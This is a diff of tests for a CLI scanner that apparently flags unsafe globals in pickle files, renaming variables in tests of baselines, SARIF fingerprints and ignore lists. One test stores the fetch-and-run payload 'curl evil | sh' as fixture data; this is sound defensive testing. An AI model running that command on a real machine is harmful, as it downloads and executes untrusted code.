@@ -37,9 +37,9 @@ def test_another_command_of_an_accepted_call_fails(statecli, folder):
     assert statecli(*PICKLES, *ACCEPT).code == 0
     assert statecli(*PICKLES, "--baseline", "b.json").code == 0
     save("curl evil | sh")
-    found = statecli(*PICKLES, "--baseline", "b.json")
-    assert found.code == 1
-    assert "the content of this finding has changed" in found.err
+    result = statecli(*PICKLES, "--baseline", "b.json")
+    assert result.code == 1
+    assert "the content of this finding has changed" in result.err
 
 
 class Settings:
@@ -203,7 +203,9 @@ def test_the_fingerprint_of_another_payload_is_another(statecli, folder):
         save(command)
         results = statecli(*PICKLES, "-f", "sarif").json["runs"][0]["results"]
         prints.add(
-            next(one for one in results if one["ruleId"] == "unsafe-global")["partialFingerprints"]["statecli/v1"]
+            next(result for result in results if result["ruleId"] == "unsafe-global")["partialFingerprints"][
+                "statecli/v1"
+            ]
         )
     assert len(prints) == 2
 
@@ -212,9 +214,9 @@ def test_a_baseline_that_accepts_by_name_is_refused(statecli, folder):
     """One line, exit 2, with what to type."""
     save("echo")
     Path("b.json").write_text('{"schema": "statecli.baseline/1", "findings": []}')
-    found = statecli(*PICKLES, "--baseline", "b.json")
-    assert (found.code, found.err.count("\n")) == (2, 1)
-    assert "write a new baseline with --write-baseline" in found.err
+    result = statecli(*PICKLES, "--baseline", "b.json")
+    assert (result.code, result.err.count("\n")) == (2, 1)
+    assert "write a new baseline with --write-baseline" in result.err
 
 
 def ignore(*contents):
@@ -227,12 +229,12 @@ def test_per_target_ignore_accepts_a_payload_only_by_its_content(statecli, folde
     Path(".git").mkdir()
     save("echo hello")
     ignore()
-    found = statecli(*PICKLES, "-f", "json")
-    (content,) = {one["content"] for one in found.json["findings"] if "content" in one}
-    assert found.code == 1
+    result = statecli(*PICKLES, "-f", "json")
+    (content,) = {finding["content"] for finding in result.json["findings"] if "content" in finding}
+    assert result.code == 1
     assert (
         f'`contents` does not list the digest of the checked bytes, so unsafe-global is reported: "{content}"'
-        in found.err
+        in result.err
     )
     ignore(content)
     assert statecli(*PICKLES).code == 0
